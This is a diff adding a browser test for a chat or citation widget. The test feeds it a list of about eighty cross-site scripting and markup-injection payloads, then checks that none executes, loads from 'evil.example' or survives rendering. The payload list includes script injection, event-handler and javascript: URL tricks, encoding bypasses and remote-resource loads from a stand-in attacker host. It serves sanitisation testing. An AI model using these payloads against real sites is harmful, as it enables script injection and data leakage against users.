@@ -1,0 +1,176 @@
+import { expect, it } from 'vitest';
+import { promise } from '../behaviours.ts';
+import { source, sourceEvents, text } from './scripts.ts';
+import { visits } from './visit.ts';
+
+const visit = visits();
+
+/** Each would call `pwned()` or ask `evil.example` where it became markup, script or an address that loads. */
+const VECTORS = [
+  '<script>pwned()</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<img src=x onerror=pwned()>',
+  '<img src="https://evil.example/pixel.png">',
+  '<svg onload=pwned()>',
+  '<svg><script>pwned()</script></svg>',
+  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
+  '<iframe src="javascript:pwned()"></iframe>',
+  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
+  '<object data="javascript:pwned()"></object>',
+  '<embed src="https://evil.example/x.swf">',
+  '<video><source onerror=pwned()></video>',
+  '<audio src=x onerror=pwned()>',
+  '<body onload=pwned()>',
+  '<details open ontoggle=pwned()>x</details>',
+  '<input autofocus onfocus=pwned()>',
+  '<select autofocus onfocus=pwned()></select>',
+  '<marquee onstart=pwned()>x</marquee>',
+  '<a href="javascript:pwned()">x</a>',
+  '<a href="https://evil.example" onmouseover=pwned()>x</a>',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><button>x</button></form>',
+  '<math><mtext></mtext><mglyph><style></style><img src=x onerror=pwned()></mglyph></math>',
+  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
+  '<template><script>pwned()</script></template>',
+  '<!--<img src="--><img src=x onerror=pwned()>-->',
+  '<![CDATA[<script>pwned()</script>]]>',
+  '<x onclick=pwned() tabindex=0 autofocus onfocus=pwned()>x',
+  '</p></article></div><script>pwned()</script>',
+  '"><script>pwned()</script>',
+  "' onmouseover='pwned()' x='",
+  '[x](javascript:pwned())',
+  '[x](JaVaScRiPt:pwned())',
+  '[x]( javascript:pwned())',
+  '[x](<javascript:pwned()>)',
+  '[x](java\tscript:pwned())',
+  '[x](java&#10;script:pwned())',
+  '[x](&#x6A;avascript:pwned())',
+  '[x](\u0001javascript:pwned())',
+  '[x](data:text/html,<script>pwned()</script>)',
+  '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
+  '[x](vbscript:pwned())',
+  '[x](blob:https://evil.example/1)',
+  '[x](filesystem:https://evil.example/1)',
+  '[x](view-source:https://evil.example)',
+  '[x](//evil.example)',
+  '[x](\\\\evil.example)',
+  '[x](https:evil "onmouseover=pwned()")',
+  '[x](https://evil.example/"onmouseover="pwned())',
+  '<javascript:pwned()>',
+  '<https://evil.example/"onclick="pwned()>',
+  'javascript:pwned()',
+  '![x](https://evil.example/pixel.png)',
+  '![x](javascript:pwned())',
+  '![x](data:image/svg+xml,<svg onload=pwned()>)',
+  '![<img src=x onerror=pwned()>](https://evil.example/p.png)',
+  '[![x](https://evil.example/p.png)](javascript:pwned())',
+  '[<img src=x onerror=pwned()>](https://evil.example)',
+  '[x]: javascript:pwned()\n\n[x]',
+  '`<img src=x onerror=pwned()>`',
+  '```html\n<script>pwned()</script>\n```',
+  '```"><img src=x onerror=pwned()>\ncode\n```',
+  '| <img src=x onerror=pwned()> | b |\n| --- | --- |\n| <script>pwned()</script> | [x](javascript:pwned()) |',
+  '- <img src=x onerror=pwned()>\n- [ ] <script>pwned()</script>',
+  '> <img src=x onerror=pwned()>',
+  '# <img src=x onerror=pwned()>',
+  '**<img src=x onerror=pwned()>**',
+  '[S1"><img src=x onerror=pwned()>]',
+  '[S1](javascript:pwned())',
+  '&lt;script&gt;pwned()&lt;/script&gt;',
+  '&#60;img src=x onerror=pwned()&#62;',
+  '{{constructor.constructor("pwned()")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is the attack.
+  '${pwned()}',
+  '\u202e<img src=x onerror=pwned()>',
+  '<scr\u0000ipt>pwned()</scr\u0000ipt>',
+  '<img src=x onerror=pwned()//',
+  '<<img src=x onerror=pwned()>>',
+  '__proto__',
+  'constructor',
+];
+
+it(
+  promise('widget.no-markup', `${VECTORS.length} attacks in answers, titles, places and passages`),
+  async () => {
+    const { page, worker, open, ask, settled } = await visit({ html: '<p>A page.</p>' });
+    const reached: string[] = [];
+    await page.exposeFunction('pwned', () => reached.push('a script ran'));
+    page.on('dialog', (it) => reached.push(`dialog ${it.message()}`));
+    page.on('request', (it) => {
+      if (!it.url().startsWith(worker.origin)) reached.push(it.url());
+    });
+    page.on('framenavigated', (it) => reached.push(`navigated ${it.url()}`));
+    const sources = VECTORS.map((vector, i) =>
+      source(`S${i + 1}`, {
+        title: vector,
+        author: vector,
+        editionLabel: vector,
+        edition: vector,
+        language: vector,
+        headings: [vector],
+        locator: { kind: 'page', volume: vector, label: vector },
+        text: vector,
+        marks: [[0, Math.min(9, vector.length)]],
+        url: ['javascript:pwned()', 'data:text/html,<script>pwned()</script>', vector][i % 3] ?? null,
+      }),
+    );
+    worker.scripts['Attack!'] = {
+      play: [
+        ...VECTORS.map((vector) => ({ type: 'step', kind: 'open', detail: vector }) as const),
+        ...sourceEvents(sources),
+        ...VECTORS.map((vector, i) => text(`${vector}\n\nSee [S${i + 1}]\n\n`)),
+        ...VECTORS.map((vector) => ({ type: 'notice', kind: 'withheld', message: vector }) as const),
+        { type: 'sources', sources },
+      ],
+    };
+    Object.assign(worker.site, {
+      name: VECTORS[2],
+      starters: VECTORS.slice(0, 8),
+      handoff: { url: 'javascript:pwned()', label: VECTORS[2] },
+    });
+    await open();
+    await ask('Attack!');
+    await settled();
+    // Every chip is opened: the card shows title, place and passage.
+    const opened = await page.locator('.panel').evaluate(async (panel) => {
+      const passages: string[] = [];
+      for (const chip of panel.querySelectorAll<HTMLElement>('.answer > p > bdi > .chip')) {
+        chip.click();
+        await new Promise((done) => setTimeout(done, 12));
+        passages.push(panel.querySelector('.card .passage')?.textContent ?? 'no card');
+      }
+      return passages;
+    });
+    expect(opened.length).toBeGreaterThanOrEqual(VECTORS.length);
+    expect(VECTORS.filter((it) => !opened.includes(it))).toEqual([]);
+
+    const found = await page.locator('.panel').evaluate((panel) => {
+      const elements = [...panel.querySelectorAll('*')];
+      return {
+        strange: elements
+          .map((it) => it.localName)
+          .filter((it) =>
+            /^(script|img|iframe|object|embed|video|audio|style|link|meta|base|input|select|template|math|marquee|details|x)$/.test(
+              it,
+            ),
+          ),
+        handlers: elements.flatMap((it) => it.getAttributeNames()).filter((it) => it.startsWith('on')),
+        addresses: elements
+          .map((it) => it.getAttribute('href'))
+          .filter((it) => it !== null && !/^(https?:\/\/|mailto:)/.test(it)),
+        openers: [...panel.querySelectorAll('a')].filter(
+          (it) => it.target !== '_blank' || !it.rel.includes('noopener'),
+        ).length,
+      };
+    });
+    expect(found).toEqual({ strange: [], handlers: [], addresses: [], openers: 0 });
+    await page.waitForTimeout(200);
+    expect(reached).toEqual([]);
+    // The trap itself works.
+    await page.evaluate('pwned()');
+    expect(reached).toEqual(['a script ran']);
+  },
+);
